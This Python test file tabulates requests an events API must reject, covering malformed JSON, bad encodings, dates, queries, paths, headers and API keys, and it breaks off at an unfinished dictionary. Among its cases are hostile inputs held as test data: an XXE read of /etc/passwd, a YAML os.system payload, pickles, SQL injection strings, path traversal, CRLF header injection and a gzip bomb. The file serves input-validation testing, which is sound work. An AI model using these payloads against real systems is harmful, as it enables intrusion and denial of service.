"""What must be refused, and how: one line per input. What is refused stores nothing and is never repeated."""

# ruff: noqa: E501  (a table reads best with one case on a line)

import gzip
import json
import pickle
import zlib
from base64 import urlsafe_b64encode
from collections.abc import Iterable
from dataclasses import dataclass
from typing import Any

from app.access.keys import _check
from tests.input.wire import Headers

CANARY = "k4n4ry"
"""Stands in every body; a refusal that held it would have repeated what was sent."""
LIMIT = 1_048_576
JSON: Headers = (("Content-Type", "application/json"),)
PATCH: Headers = (("Content-Type", "application/merge-patch+json"),)


@dataclass(frozen=True)
class Case:
    """A request, and the refusal that it gets."""

    name: str
    status: int
    code: str
    body: bytes | Iterable[bytes] | None = None
    target: str | bytes = "/v1/events"
    method: str = "POST"
    headers: Headers = JSON
    at: str | None = None
    """Pointer, parameter or header that an error has to name."""
    key: bool = True
    allow: str | None = None


def event(**fields: Any) -> bytes:
    """A valid event, but for the fields given."""
    body = {"title": CANARY, "kind": "seminar", "start_date": "2026-11-23", **fields}
    return json.dumps({name: value for name, value in body.items() if value is not ...}).encode()


def raw(title: bytes) -> bytes:
    """An event whose title is these bytes."""
    return b'{"title": "' + CANARY.encode() + title + b'", "kind": "seminar", "start_date": "2026-11-23"}'


def number(digits: str) -> bytes:
    """An event with this number of people, as written."""
    return event(registered=1).replace(b'"registered": 1', b'"registered": ' + digits.encode())


def get(
    name: str, status: int, code: str, target: str | bytes, at: str | None = None, headers: Headers = ()
) -> Case:
    return Case(name, status, code, None, target, "GET", headers, at, key=False)


def keyed(name: str, code: str, *headers: tuple[str, str | bytes]) -> Case:
    return Case(name, 401, code, None, "/v1/goals", "GET", headers, key=False)


_BAD = "malformed-json"
_JSON = (
    Case("empty body", 400, _BAD, b""),
    Case("only blanks", 400, _BAD, b" \r\n\t "),
    Case("cut off", 400, _BAD, event()[:-1]),
    Case("cut off inside a text", 400, _BAD, event()[:15]),
    Case("trailing comma", 400, _BAD, event()[:-1] + b",}"),
    Case("trailing text", 400, _BAD, event() + b" x"),
    Case("two documents", 400, _BAD, event() + event()),
    Case("two documents on lines", 400, _BAD, event() + b"\n" + event()),
    Case("byte order mark", 400, _BAD, b"\xef\xbb\xbf" + event()),
    Case("single quotes", 400, _BAD, b"{'title': 'k4n4ry'}"),
    Case("a comment", 400, _BAD, b'{"title": "k4n4ry" /* note */}'),
    Case("bare name", 400, _BAD, b'{title: "k4n4ry"}'),
    Case("form as JSON", 400, _BAD, b"title=k4n4ry&kind=seminar"),
    Case("lists nested 100 000 deep", 400, _BAD, b'{"title": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
    Case("objects nested 100 000 deep", 400, _BAD, b'{"title":' * 100_000 + b"1" + b"}" * 100_000),
    Case("nested 40 deep", 400, _BAD, event(title=...)[:-1] + b', "title": ' + b"[" * 40 + b"]" * 40 + b"}"),
    Case("nested deep and never closed", 400, _BAD, b"[" * 500_000),
    Case("a name twice", 400, _BAD, event()[:-1] + b', "title": "other"}'),
    Case("a name twice, once escaped", 400, _BAD, event()[:-1] + b', "t\\u0069tle": "other"}'),
    Case("a name twice, deep inside", 400, _BAD, event(sources=[])[:-1] + b', "x": {"a": 1, "a": 2}}'),
    Case("1 001 names", 400, _BAD, json.dumps({f"n{n}": 1 for n in range(1001)}).encode()),
    Case("NaN", 400, _BAD, number("NaN")),
    Case("Infinity", 400, _BAD, number("Infinity")),
    Case("minus Infinity", 400, _BAD, number("-Infinity")),
    Case("1e400", 400, _BAD, number("1e400")),
    Case("minus 1e400", 400, _BAD, number("-1e400")),
    Case("a number of 5 000 digits", 400, _BAD, number("9" * 5000)),
    Case("a number of 1 000 000 digits", 400, _BAD, number("9" * 1_000_000)),
    Case("a fraction of 5 000 digits", 422, "unprocessable", number("0." + "1" * 5000), at="/registered"),
    Case("leading zero", 400, _BAD, number("007")),
    Case("plus sign", 400, _BAD, number("+1")),
    Case("hexadecimal", 400, _BAD, number("0x10")),
    Case("None", 400, _BAD, number("None")),
    Case("raw NUL in a text", 400, _BAD, raw(b"\x00")),
    Case("raw control character in a text", 400, _BAD, raw(b"\x1f")),
    Case("raw line break in a text", 400, _BAD, raw(b"\n")),
    Case("lone high surrogate, escaped", 400, _BAD, raw(b"\\ud800")),
    Case("lone low surrogate, escaped", 400, _BAD, raw(b"\\uDC00")),
    Case("surrogates in the wrong order", 400, _BAD, raw(b"\\udc00\\ud800")),
    Case("lone surrogate in a name", 400, _BAD, event()[:-1] + b', "\\ud83d": 1}'),
    Case("lone surrogate as raw bytes", 400, _BAD, raw(b"\xed\xa0\x80")),
    Case("overlong UTF-8", 400, _BAD, raw(b"\xc0\xaf")),
    Case("overlong NUL", 400, _BAD, raw(b"\xc0\x80")),
    Case("CESU-8", 400, _BAD, raw(b"\xed\xa1\x82\xed\xbe\xb7")),
    Case("UTF-8 cut off", 400, _BAD, raw(b"\xe9\xab")),
    Case("UTF-8 beyond Unicode", 400, _BAD, raw(b"\xf4\x90\x80\x80")),
    Case("a stray continuation byte", 400, _BAD, raw(b"\x80")),
    Case("Latin-1", 400, _BAD, raw("Café".encode("latin-1"))),
    Case("UTF-16 with mark", 400, _BAD, event().decode().encode("utf-16")),
    Case("UTF-16 without mark", 400, _BAD, event().decode().encode("utf-16-le")),
    Case("UTF-32", 400, _BAD, event().decode().encode("utf-32")),
    Case("CP932", 400, _BAD, raw("法務省".encode("cp932"))),
    Case("TIS-620", 400, _BAD, raw("กระทรวงยุติธรรม".encode("cp874"))),
    Case("a list instead of an object", 422, "unprocessable", b"[" + event() + b"]", at=""),
    Case("a text instead of an object", 422, "unprocessable", b'"k4n4ry"', at=""),
    Case("a number instead of an object", 422, "unprocessable", b"6", at=""),
    Case("null instead of an object", 422, "unprocessable", b"null", at=""),
    Case("nothing in the object", 422, "unprocessable", b"{}", at="/title"),
)


def text(name: str, value: str, **more: Any) -> Case:
    """A title that cannot be taken."""
    return Case(f"title: {name}", 422, "unprocessable", event(title=value), at="/title", **more)


def field(name: str, path: str, value: Any, at: str | None = None) -> Case:
    """A field of an event that cannot be taken."""
    return Case(f"{path}: {name}", 422, "unprocessable", event(**{path: value}), at=at or f"/{path}")


_TEXT = (
    text("NUL, escaped", CANARY + "\0"),
    text("escape sequence of a terminal", CANARY + "\x1b[2J"),
    text("C1 control", CANARY + "\x85"),
    text("delete", CANARY + "\x7f"),
    text("line break", CANARY + "\nsecond"),
    text("tab", CANARY + "\t"),
    text("line separator", CANARY + "\u2028"),
    text("byte order mark inside", CANARY + "\ufeff"),
    text("right-to-left override", CANARY + "\u202egpj.exe"),
    text("left-to-right override", CANARY + "\u202d"),
    text("isolate", CANARY + "\u2066x\u2069"),
    text("interlinear annotation", CANARY + "\ufff9"),
    text("noncharacter", CANARY + "\uffff"),
    text("replacement character", CANARY + "\ufffd"),
    text("5 000 combining marks", CANARY + "e" + "\u0301" * 5000),
    text("17 marks on one letter", CANARY + "e" + "\u0301" * 18),
    text("marks with joiners between", CANARY + "e" + "\u0301\u200d" * 50),
    text("empty", ""),
    text("blank", "   "),
    text("full-width blank", "\u3000\u3000"),
    text("no-break blank", "\u00a0"),
    text("zero-width blank", "\u200b\u200b"),
    text("Hangul filler", "\u3164"),
    text("2 001 characters", "x" * 2001),
    text("500 000 characters", CANARY + "x" * 500_000),
    text("a number", 6),  # type: ignore[arg-type]
    text("true", True),  # type: ignore[arg-type]
    text("null", None),  # type: ignore[arg-type]
    text("a list", [CANARY]),  # type: ignore[arg-type]
    text("an object", {"en": CANARY}),  # type: ignore[arg-type]
    text("missing", ...),  # type: ignore[arg-type]
    field("control in a paragraph", "summary", CANARY + "\x0b"),
    field("20 001 characters", "summary", "x" * 20_001),
    field("501 characters", "city", "x" * 501),
    field("control in a list", "aliases", [CANARY, "\x00"], "/aliases/1"),
    field("51 names", "aliases", [f"{CANARY} {n}" for n in range(51)]),
)
_VALUES = (
    field("a word that is none", "kind", CANARY),
    field("upper case", "kind", "SEMINAR"),
    field("null where none is", "kind", None),
    field("text for a number", "registered", "12"),
    field("true for a number", "registered", True),
    field("1.0 for a number", "registered", 1.0),
    field("1.5 for a number", "registered", 1.5),
    field("negative", "registered", -1),
    field("2^31", "registered", 2**31),
    field("2^63", "registered", 2**63),
    field("minus 2^63", "registered", -(2**63)),
    field("text for a list", "aliases", CANARY),
    field("object for a list", "aliases", {"0": CANARY}),
    field("number for a date", "start_date", 1_795_392_000),
    field("zero for a date", "start_date", 0),
    field("seconds as text for a date", "start_date", "1795392000"),
    field("date and time for a date", "start_date", "2026-11-23T00:00:00Z"),
    field("day first", "start_date", "23/11/2026"),
    field("no leading zero", "start_date", "2026-1-1"),
    field("no such day", "start_date", "2026-02-30"),
    field("no such month", "start_date", "2026-13-01"),
    field("year zero", "start_date", "0000-01-01"),
    field("before 1900", "start_date", "1026-11-23"),
    field("Buddhist era", "start_date", "2569-11-23"),
    field("Buddhist leap day", "start_date", "2567-02-29"),
    field("Thai digits", "start_date", "๒๕๖๙-๑๑-๒๓"),
    field("full-width digits", "start_date", "２０２６-11-23"),
    field("Japanese era", "start_date", "R8.11.23"),
    field("Japanese era without a day", "start_date", "令和8年"),
    field("Buddhist era, day first", "start_date", "23/11/2569"),
    field("number of a spreadsheet", "start_date", "45832"),
    field("Japanese era in kanji", "start_date", "令和8年11月23日"),
    field("word", "start_date", "tomorrow"),
    field("SQL infinity", "start_date", "infinity"),
    field("end before start", "end_date", "2026-11-22"),
    field("lower-case country", "country", "th"),
    field("three letters", "country", "THA"),
    field("country with line break", "country", "TH\n"),
    field("a country twice", "countries", ["TH", "TH"]),
    field("a key without system", "keys", ["42"], "/keys/0"),
    field("a key twice", "keys", ["moj:1", "moj:1"]),
    field("javascript address", "sources", [{"title": "x", "url": "javascript:alert(1)"}], "/sources/0/url"),
    field("address with line break", "sources", [{"title": "x", "url": "https://a.b/\r\nX: y"}], "/sources/0/url"),
    field("goal that does not exist", "goals", [{"number": 77}], "/goals/0"),
    field("goal as a number", "goals", [6], "/goals/0"),
    field("goal as a text", "goals", [{"number": "6"}], "/goals/0/number"),
    field("goal without a name", "goals", [{"link": "stated"}], "/goals/0"),
    field("goal zero", "goals", [{"number": 0}], "/goals/0/number"),
    field("goal 32 768", "goals", [{"number": 32_768}], "/goals/0/number"),
    field("id that is none", "goals", [{"id": CANARY}], "/goals/0/id"),
    field("activity with NUL", "activities", [{"code": "6.1\0"}], "/activities/0/code"),
    field("organisation that is SQL", "organisations", [{"code": "x' or '1'='1"}], "/organisations/0/code"),
    Case("focal point: seconds for an instant", 422, "unprocessable", b'{"verified_at": 1795392000}',
         "/v1/focal-points/{focal_point}", "PATCH", PATCH, "/verified_at"),
    Case("focal point: seconds as text for an instant", 422, "unprocessable", b'{"verified_at": "1795392000"}',
         "/v1/focal-points/{focal_point}", "PATCH", PATCH, "/verified_at"),
    Case("focal point: instant without offset", 422, "unprocessable", b'{"verified_at": "2026-11-23T09:00:00"}',
         "/v1/focal-points/{focal_point}", "PATCH", PATCH, "/verified_at"),
    Case("focal point: date for an instant", 422, "unprocessable", b'{"verified_at": "2026-11-23"}',
         "/v1/focal-points/{focal_point}", "PATCH", PATCH, "/verified_at"),
    Case("focal point: instant of the Buddhist era", 422, "unprocessable", b'{"verified_at": "2569-11-23T09:00:00+07:00"}',
         "/v1/focal-points/{focal_point}", "PATCH", PATCH, "/verified_at"),
    Case("focal point: 1 for true", 422, "unprocessable", b'{"bounced": 1}',
         "/v1/focal-points/{focal_point}", "PATCH", PATCH, "/bounced"),
    Case("focal point: text for true", 422, "unprocessable", b'{"bounced": "true"}',
         "/v1/focal-points/{focal_point}", "PATCH", PATCH, "/bounced"),
)  # fmt: skip
_READ_ONLY = {
    "/v1/events": ("id", "version", "created_at", "updated_at", "former_dates"),
    "/v1/activities": ("id", "version", "derived_status", "status_conflict"),
    "/v1/focal-points": ("id", "created_at", "freshness"),
}
_ASSIGNMENT = (
    *(
        Case(f"{path}: read-only {name}", 422, "unprocessable", json.dumps({name: CANARY}).encode(), path, at=f"/{name}")
        for path, names in _READ_ONLY.items()
        for name in names
    ),
    *(
        Case(f"patch of read-only {name}", 422, "unprocessable", json.dumps({name: 9}).encode(),
             "/v1/events/{event}", "PATCH", PATCH, f"/{name}")
        for name in _READ_ONLY["/v1/events"]
    ),
    Case("unknown field", 422, "unprocessable", event(titel=CANARY), at="/titel"),
    Case("unknown field of a patch", 422, "unprocessable", b'{"admin": true}', "/v1/events/{event}", "PATCH", PATCH, "/admin"),
    Case("own column of the database", 422, "unprocessable", event(goal_id=CANARY), at="/goal_id"),
    Case("prototype", 422, "unprocessable", event(__proto__={"admin": True}), at="/__proto__"),
    Case("unknown field inside a source", 422, "unprocessable", event(sources=[{"title": "x", "admin": 1}]), at="/sources/0/admin"),
    Case("unknown field inside a reference", 422, "unprocessable", event(goals=[{"number": 6, "title": CANARY}]), at="/goals/0/title"),
    Case("unknown field inside an office", 422, "unprocessable", b'{"office": {"password": "k4n4ry"}}',
         "/v1/focal-points/{focal_point}", "PATCH", PATCH, "/office/password"),
    Case("field with a slash and a tilde", 422, "unprocessable", event(**{"a/b~c": 1}), at="/a~1b~0c"),
    Case("field of 100 000 characters", 422, "unprocessable", event(**{"x" * 100_000: 1}), at="/" + "x" * 100),
    Case("900 unknown fields", 422, "unprocessable", json.dumps({f"n{n}": CANARY for n in range(900)}).encode(), at="/n0"),
)  # fmt: skip

_TYPE = "unsupported-media-type"


def typed(name: str, content_type: str | None, body: bytes | None = None, *more: tuple[str, str]) -> Case:
    headers = (("Content-Type", content_type),) if content_type is not None else ()
    return Case(name, 415, _TYPE, event() if body is None else body, headers=(*headers, *more))


_MEDIA = (
    typed("no type", None),
    typed("empty type", ""),
    typed("form", "application/x-www-form-urlencoded", b"title=k4n4ry"),
    typed("multipart", "multipart/form-data; boundary=x", b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--x--'),
    typed("plain text", "text/plain"),
    typed("text/json", "text/json"),
    typed("XML", "application/xml", b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"),
    typed("YAML", "application/yaml", b"!!python/object/apply:os.system ['id']"),
    typed("pickle", "application/octet-stream", pickle.dumps({"title": CANARY})),
    typed("two types", "application/json, text/plain"),
    typed("charset cp932", "application/json; charset=cp932", "法務省".encode("cp932")),
    typed("charset Latin-1", "application/json; charset=iso-8859-1"),
    typed("charset UTF-7", 'application/json; charset="utf-7"'),
    typed("merge patch on POST", "application/merge-patch+json"),
    typed("JSON patch on POST", "application/json-patch+json", b'[{"op": "replace", "path": "/title", "value": "k4n4ry"}]'),
    typed("gzip", "application/json", gzip.compress(event()), ("Content-Encoding", "gzip")),
    typed("deflate", "application/json", zlib.compress(event()), ("Content-Encoding", "deflate")),
    typed("brotli", "application/json", b"\x0b\x02\x80", ("Content-Encoding", "br")),
    typed("gzip bomb", "application/json", gzip.compress(b"0" * 50_000_000), ("Content-Encoding", "gzip")),
    Case("JSON patch on PATCH", 415, _TYPE, b"[]", "/v1/events/{event}", "PATCH", (("Content-Type", "application/json-patch+json"),)),
    Case("type given twice", 400, "bad-request", event(), headers=JSON + JSON, at="Content-Type"),
    get("Accept: XML", 406, "not-acceptable", "/v1/events", headers=(("Accept", "application/xml"),)),
    get("Accept: HTML of an item", 406, "not-acceptable", "/v1/goals/6", headers=(("Accept", "text/html"),)),
    get("Accept: nonsense", 406, "not-acceptable", "/v1/events", headers=(("Accept", ";;;q=x/,\xff"),)),
)  # fmt: skip

_SIZE = (
    Case("declared 1 byte too many", 413, "too-large", b"x" * (LIMIT + 1)),
    Case("declared 2 MiB, a valid document", 413, "too-large", event(summary="x" * (2 * LIMIT))),
    Case("declared as ten digits", 413, "too-large", b"", headers=(*JSON, ("Content-Length", "9999999999"))),
    Case("chunked", 413, "too-large", (b"x" * 65_536 for _ in range(40))),
    Case("2 MiB without a key", 413, "too-large", b"x" * (2 * LIMIT), key=False),
    Case(
        "2 MiB of the wrong type",
        413,
        "too-large",
        b"x" * (2 * LIMIT),
        headers=(("Content-Type", "text/plain"),),
    ),
)

_UNKNOWN, _INVALID = "unknown-parameter", "invalid-parameter"


def query(name: str, code: str, asked: str | bytes, at: str | None) -> Case:
    target = b"/v1/events?" + (asked if isinstance(asked, bytes) else asked.encode())
    return get(f"query: {name}", 400, code, target, at)


_QUERY = (
    query("unknown", _UNKNOWN, "tilte=x", "tilte"),
    query("unknown among known", _UNKNOWN, "limit=5&page=2", "page"),
    query("upper case", _UNKNOWN, "LIMIT=5", "LIMIT"),
    query("list style", _UNKNOWN, "status[]=planned", "status[]"),
    query("numbered list style", _UNKNOWN, "status[0]=planned", "status[0]"),
    query("object style", _UNKNOWN, "filter[status]=planned", "filter[status]"),
    query("given twice", _INVALID, "status=planned&status=implemented", "status"),
    query("given twice, once escaped", _INVALID, "status=planned&st%61tus=implemented", "status"),
    query("unknown operator", _UNKNOWN, "title__like=x", "title__like"),
    query("empty operator", _UNKNOWN, "title__=x", "title__"),
    query("SQL in a name", _UNKNOWN, "1;drop%20table%20events--=x", "1;drop table events--"),
    query("no name", _UNKNOWN, "=x", ""),
    query("NUL", "bad-request", "title=a%00b", None),
    query("NUL in a name", "bad-request", "ti%00tle=a", None),
    query("invalid UTF-8", "bad-request", "title=%ff", None),
    query("overlong UTF-8", "bad-request", "title=%c0%af", None),
    query("surrogate", "bad-request", "title=%ed%a0%80", None),
    query("percent without digits", "bad-request", "title=100%", None),
    query("percent with letters", "bad-request", "title=%zz", None),
    query("percent cut off", "bad-request", "title=%e", None),
    query("word that is none", _INVALID, "status=plannde", "status"),
    query("empty value", _INVALID, "status=", "status"),
    query("not a number", _INVALID, "registered=many", "registered"),
    query("2^63", _INVALID, "registered=9223372036854775808", "registered"),
    query("10 000 digits", _INVALID, "registered=" + "9" * 10_000, "registered"),
    query("NaN", _INVALID, "registered=NaN", "registered"),
    query("not a date", _INVALID, "start_date=yesterday", "start_date"),
    query("no such day", _INVALID, "start_date=2026-02-30", "start_date"),
    query("Buddhist era", _INVALID, "start_date=2569-11-23", "start_date"),
    query("relative date beyond time", _INVALID, "start_date__gte=-99999y", "start_date__gte"),
    query("not an id", _INVALID, "id=6", "id"),
    query("one end of two", _INVALID, "start_date__between=2026-01-01", "start_date__between"),
    query("isnull with another word", _INVALID, "city__isnull=1", "city__isnull"),
    query("201 values", _INVALID, "title=" + ",".join(map(str, range(201))), "title"),
    query("limit zero", _INVALID, "limit=0", "limit"),
    query("limit negative", _INVALID, "limit=-1", "limit"),
    query("limit huge", _INVALID, "limit=1000000000", "limit"),
    query("limit of 5 000 digits", _INVALID, "limit=" + "9" * 5000, "limit"),
    query("limit with zeros before", _INVALID, "limit=0000000001" + "0" * 5000, "limit"),
    query("limit as a fraction", _INVALID, "limit=1.5", "limit"),
    query("limit in Thai digits", _INVALID, "limit=%E0%B9%95", "limit"),
    query("count as true", _INVALID, "count=true", "count"),
    query("sort by what is none", _INVALID, "sort=tilte", "sort"),
    query("sort with SQL", _INVALID, "sort=title;drop%20table%20events", "sort"),
    query("sort with a sub-select", _INVALID, "sort=(select%201)", "sort"),
    query("sort with a direction", _INVALID, "sort=title%20desc", "sort"),
    query("sort twice by the same", _INVALID, "sort=title,-title", "sort"),
    query("sort by nothing", _INVALID, "sort=", "sort"),
    query("field that is none", _INVALID, "fields=password", "fields"),
    query("star of fields", _INVALID, "fields=*", "fields"),
    query("expand to depth 3", _INVALID, "expand=goals.activities.lead", "expand"),
    query("expand what is none", _INVALID, "expand=secrets", "expand"),
    query("q empty", _INVALID, "q=", "q"),
    query("q blank", _INVALID, "q=%20%20", "q"),
    query("q of 201 characters", _INVALID, "q=" + "x" * 201, "q"),
    query("q of 60 000 characters", _INVALID, "q=" + "x" * 60_000, "q"),
    query("q of nine words", _INVALID, "q=" + "+".join("abcdefghi"), "q"),
    query("raw bytes", "bad-request", "title=髙".encode(), None),
    query("cursor that is nonsense", "invalid-cursor", "cursor=abc", "cursor"),
    query("cursor that is empty", "invalid-cursor", "cursor=", "cursor"),
    query("cursor that is a pickle", "invalid-cursor",
          b"cursor=" + urlsafe_b64encode(b"x" * 16 + pickle.dumps(["2026-11-23", None])).rstrip(b"="), "cursor"),
    query("cursor signed by another", "invalid-cursor",
          b"cursor=" + urlsafe_b64encode(b"\0" * 16 + b'["2026-11-23","019ab0f0-0000-7000-8000-000000000000"]').rstrip(b"="), "cursor"),
    query("cursor of 50 000 characters", "invalid-cursor", "cursor=" + "A" * 50_000, "cursor"),
    get("query of an item", 400, _UNKNOWN, "/v1/goals/6?verbose=1", "verbose"),
    get("query of an item: filter", 400, _UNKNOWN, "/v1/goals/6?number=6", "number"),
    get("query of the plan", 400, _UNKNOWN, "/v1/plan?lang=ja", "lang"),
    get("group by what is none", 400, _INVALID, "/v1/events/stats?group_by=titel", "group_by"),
    get("group by nothing", 400, _INVALID, "/v1/events/stats", "group_by"),
    get("search without words", 400, _INVALID, "/v1/search", "q"),
    get("search for a kind that is none", 400, _INVALID, "/v1/search?q=x&kind=secrets", "kind"),
    get("search limit", 400, _INVALID, "/v1/search?q=x&limit=101", "limit"),
    get("search limit with zeros before", 400, _INVALID, "/v1/search?q=x&limit=000000001" + "0" * 5000, "limit"),
    Case("unknown parameter of a write", 400, _UNKNOWN, event(), "/v1/events?dryrun=true", at="dryrun"),
    Case("dry_run=1", 400, _INVALID, event(), "/v1/events?dry_run=1", at="dry_run"),
    Case("dry_run twice", 400, _INVALID, event(), "/v1/events?dry_run=true&dry_run=false", at="dry_run"),
    Case("cascade of a patch", 400, _UNKNOWN, b"{}", "/v1/events/{event}?cascade=true", "PATCH", PATCH, "cascade"),
)  # fmt: skip

_PATHS = tuple(
    get(f"path: {name}", status, code, target)
    for name, status, code, target in (
        ("unknown", 404, "not-found", "/nothing"),
        ("unknown below the base", 404, "not-found", "/v1/secrets"),
        ("no version", 404, "not-found", "/goals"),
        ("trailing slash", 404, "not-found", "/v1/goals/"),
        ("two slashes", 404, "not-found", "//v1/goals"),
        ("two slashes inside", 404, "not-found", "/v1//goals"),
        ("dots", 404, "not-found", "/v1/goals/../goals"),
        ("dots, escaped", 404, "not-found", "/v1/goals/%2e%2e/goals"),
        ("dots with escaped slashes", 404, "not-found", "/v1/goals/..%2f..%2fetc%2fpasswd"),
        ("escaped slash", 404, "not-found", "/v1/goals%2f6"),
        ("backslash", 404, "not-found", "/v1/goals/..%5c..%5cwindows"),
        ("matrix parameter", 404, "not-found", "/v1/goals;x=1/6"),
        ("8 000 characters", 404, "not-found", "/v1/goals/" + "6" * 8000),
        ("kanji", 404, "not-found", "/v1/goals/%E9%AB%99"),
        ("NUL", 400, "bad-request", "/v1/goals/6%00"),
        ("line break", 400, "bad-request", "/v1/goals/6%0d%0aX-Evil:%201"),
        ("invalid UTF-8", 400, "bad-request", "/v1/goals/%ff"),
        ("overlong UTF-8", 400, "bad-request", "/v1/goals/%c0%af"),
        ("percent without digits", 400, "bad-request", "/v1/goals/%"),
        ("direction override", 400, "bad-request", "/v1/goals/%E2%80%AE6"),
        ("raw bytes", 400, "bad-request", "/v1/goals/髙".encode()),
        ("goal 0", 404, "not-found", "/v1/goals/0"),
        ("goal 9", 404, "not-found", "/v1/goals/9"),
        ("goal 06", 404, "not-found", "/v1/goals/06"),
        ("goal -6", 404, "not-found", "/v1/goals/-6"),
        ("goal 6.0", 404, "not-found", "/v1/goals/6.0"),
        ("goal of twelve digits", 404, "not-found", "/v1/goals/999999999999"),
        ("goal in Thai digits", 404, "not-found", "/v1/goals/%E0%B9%96"),
        ("goal that is SQL", 404, "not-found", "/v1/goals/6'%20or%20'1'='1"),
        ("lower-case country", 404, "not-found", "/v1/countries/th"),
        ("id of no record", 404, "not-found", "/v1/events/019ab0f0-0000-7000-8000-000000000000"),
        ("id in braces", 404, "not-found", "/v1/events/%7B019ab0f0-0000-7000-8000-000000000000%7D"),
        ("id cut off", 404, "not-found", "/v1/events/019ab0f0-0000-7000-8000"),
        ("unknown ending", 404, "not-found", "/v1/events.exe"),
        ("problem that is none", 404, "not-found", "/problems/nothing"),
        ("address of another server", 404, "not-found", "http://evil.example/nothing"),
    )
)

_ITEM, _LIST = "DELETE, GET, HEAD, OPTIONS, PATCH", "GET, HEAD, OPTIONS, POST"


def method(name: str, target: str, allow: str) -> Case:
    return Case(f"method: {name} {target}", 405, "method-not-allowed", None, target, name, (), allow=allow)


_METHODS = (
    method("PUT", "/v1/goals/6", _ITEM),
    method("POST", "/v1/goals/6", _ITEM),
    method("TRACE", "/v1/goals/6", _ITEM),
    method("PROPFIND", "/v1/goals/6", _ITEM),
    method("DELETE", "/v1/goals", _LIST),
    method("PATCH", "/v1/goals", _LIST),
    method("TRACE", "/v1/goals", _LIST),
    method("POST", "/v1/plan", "GET, HEAD, OPTIONS, PATCH"),
    method("POST", "/v1/search", "GET, HEAD, OPTIONS"),
    method("POST", "/v1/events.csv", "GET, HEAD, OPTIONS"),
    method("GET", "/v1/events/{event}/restore", "OPTIONS, POST"),
    method("POST", "/livez", "GET, HEAD, OPTIONS"),
    Case("method that does not exist", 400, "bad-request", None, "/v1/goals", "STEAL", ()),
    Case("method in lower case", 400, "bad-request", None, "/v1/goals", "get", ()),
)
_STRANGER = f"ajwp_{'0' * 40}{_check('0' * 40)}"
_KEYS = (
    Case("key: none", 401, "key-missing", event(), key=False),
    Case("key: none, for a patch", 401, "key-missing", b"{}", "/v1/events/{event}", "PATCH", PATCH, key=False),
    Case("key: none, for a delete", 401, "key-missing", None, "/v1/events/{event}", "DELETE", (), key=False),
    Case("key: none, for a restore", 401, "key-missing", None, "/v1/events/{event}/restore", "POST", (), key=False),
    Case("key: may only read", 403, "forbidden", event(), headers=(*JSON, ("X-API-Key", "{reader}")), key=False),
    keyed("key: empty", "key-malformed", ("X-API-Key", "")),
    keyed("key: nonsense", "key-malformed", ("X-API-Key", "secret")),
    keyed("key: raw bytes", "key-malformed", ("X-API-Key", b"ajwp_\xff\xfe" + b"0" * 44)),
    keyed("key: kanji", "key-malformed", ("X-API-Key", "ajwp_" + "髙" * 46)),
    keyed("key: too long", "key-malformed", ("X-API-Key", _STRANGER + "0" * 20_000)),
    keyed("key: wrong check digits", "key-malformed", ("X-API-Key", _STRANGER[:-1] + "!")),
    keyed("key: SQL", "key-malformed", ("X-API-Key", "' or 1=1 --")),
    keyed("key: wrong case", "key-malformed", ("X-API-Key", _STRANGER.upper())),
    keyed("key: no scheme", "key-malformed", ("Authorization", _STRANGER)),
    keyed("key: Basic", "key-malformed", ("Authorization", "Basic YWRtaW46YWRtaW4=")),
    keyed("key: Bearer and nothing", "key-malformed", ("Authorization", "Bearer ")),
    keyed("key: token without signature", "key-malformed", ("Authorization", "Bearer eyJhbGciOiJub25lIn0.e30.")),
    keyed("key: never issued", "key-unknown", ("Authorization", f"Bearer {_STRANGER}")),
    keyed("key: revoked", "key-revoked", ("X-API-Key", "{revoked}")),
    keyed("key: expired", "key-expired", ("X-API-Key", "{expired}")),
    get("key: twice", 400, "bad-request", "/v1/goals", "X-Api-Key", (("X-API-Key", _STRANGER), ("X-API-Key", _STRANGER))),
)  # fmt: skip


def matching(name: str, value: str | bytes, header: str = "If-Match") -> Case:
    if header == "If-Match":
        return Case(
            f"If-Match: {name}",
            400,
            "bad-request",
            b"{}",
            "/v1/events/{event}",
            "PATCH",
            (*PATCH, (header, value)),
            header,
        )
    return get(f"{header}: {name}", 400, "bad-request", "/v1/goals/6", header, ((header, value),))


def idempotent(name: str, value: str | bytes) -> Case:
    return Case(
        f"Idempotency-Key: {name}",
        400,
        "bad-request",
        event(),
        headers=(*JSON, ("Idempotency-Key", value)),
        at="Idempotency-Key",
    )


_HEADERS = (
    matching("not quoted", "1"),
    matching("empty", ""),
    matching("half quoted", '"1'),
    matching("two without comma", '"1" "2"'),
    matching("star among tags", '"1", *'),
    matching("lower-case weak", 'w/"1"'),
    matching("trailing text", '"1"; x'),
    matching("not quoted", "1", "If-None-Match"),
    matching("20 000 quotes", '"' * 20_001, "If-None-Match"),
    idempotent("empty", ""),
    idempotent("empty quotes", '""'),
    idempotent("256 characters", "x" * 256),
    idempotent("blank inside", "a b"),
    idempotent("kanji", "髙"),
    idempotent("raw bytes", b"\xff"),
    Case("Idempotency-Key: twice", 400, "bad-request", event(), headers=(*JSON, ("Idempotency-Key", "a"), ("Idempotency-Key", "b")), at="Idempotency-Key"),
    Case("X-Reason: not UTF-8", 400, "bad-request", event(), headers=(*JSON, ("X-Reason", b"\xff")), at="X-Reason"),
    Case("X-Reason: 501 characters", 400, "bad-request", event(), headers=(*JSON, ("X-Reason", "x" * 501)), at="X-Reason"),
    Case("X-Reason: direction override", 400, "bad-request", event(), headers=(*JSON, ("X-Reason", "a\u202eb")), at="X-Reason"),
    Case("header with a control character", 400, "bad-request", event(), headers=(*JSON, ("X-Reason", b"a\x00b"))),
    Case("header cut by CR", 400, "bad-request", event(), headers=(*JSON, ("X-Reason", b"a\rX-Evil: 1"))),
    Case("content length that is none", 400, "bad-request", event(), headers=(*JSON, ("Content-Length", "many"))),
    Case("more than a hundred fields", 400, "bad-request", event(), headers=(*JSON, *((f"X-{n}", "") for n in range(100)))),
    Case("content length of 5 000 digits", 400, "bad-request", event(), headers=(*JSON, ("Content-Length", "9" * 5000))),
    Case("content length below zero", 400, "bad-request", event(), headers=(*JSON, ("Content-Length", "-1"))),
    Case("two lengths", 400, "bad-request", event(), headers=(*JSON, ("Content-Length", "5"), ("Content-Length", "6"))),
)  # fmt: skip

TABLE: tuple[Case, ...] = (
    *_JSON, *_TEXT, *_VALUES, *_ASSIGNMENT, *_MEDIA, *_SIZE, *_QUERY, *_PATHS, *_METHODS, *_KEYS, *_HEADERS,
)  # fmt: skip

WELCOME = {
